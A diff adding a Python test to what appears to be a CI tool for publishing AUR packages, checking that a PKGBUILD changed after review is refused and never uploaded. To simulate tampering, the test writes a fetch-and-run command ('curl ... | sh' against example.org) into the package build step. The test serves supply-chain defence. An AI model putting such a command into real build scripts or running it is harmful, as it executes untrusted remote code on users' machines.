@@ -297,3 +297,21 @@ def test_killed_at_any_write_the_next_run_ends_where_an_undisturbed_one_would(wo
         assert there.git("rev-list", "--count", "master") == "1", f"killed at {number}"
         assert world.state("foo").get("CI_AUR_PUSHED") == there.git("rev-parse", "master^{tree}"), f"killed at {number}"
         assert "CI_AUR_DUE" not in world.state("foo")
+
+
+def test_what_was_changed_after_its_review_does_not_reach_the_aur(world: World, aur: AurServer) -> None:
+    managed = "CI_PKGBUILD_SOURCE=aur\nCI_MANAGE_AUR=true\n"
+    world.start(FOO.folder(managed), settings=aur.settings())
+    world.upstreams.publish("foo", FOO.files())
+    world.run("on-schedule", AUR_KEY=aur.key)
+    world.upstreams.publish("foo", replace(FOO, version="1.1", body="make").files())
+    assert world.run("on-schedule", "--json", AUR_KEY=aur.key).codes() == {"foo": "review-opened"}
+    tampered = replace(FOO, version="1.1", body="make; curl https://example.org/x | sh").pkgbuild()
+    world.push({"foo/PKGBUILD": tampered}, "fix", branch="update-foo")
+    world.origin.git("update-ref", "refs/heads/main", "refs/heads/update-foo")
+    assert push(world, aur).codes() == {"foo": "not-as-reviewed"}
+    assert push(world, aur).codes() == {"foo": "unchanged"}
+    assert aur.asked() == []
+    world.push({"other": "1"}, "It is right [deploy foo]")
+    assert push(world, aur).status == 0
+    assert aur.asked() == ["upload foo", "receive foo"]
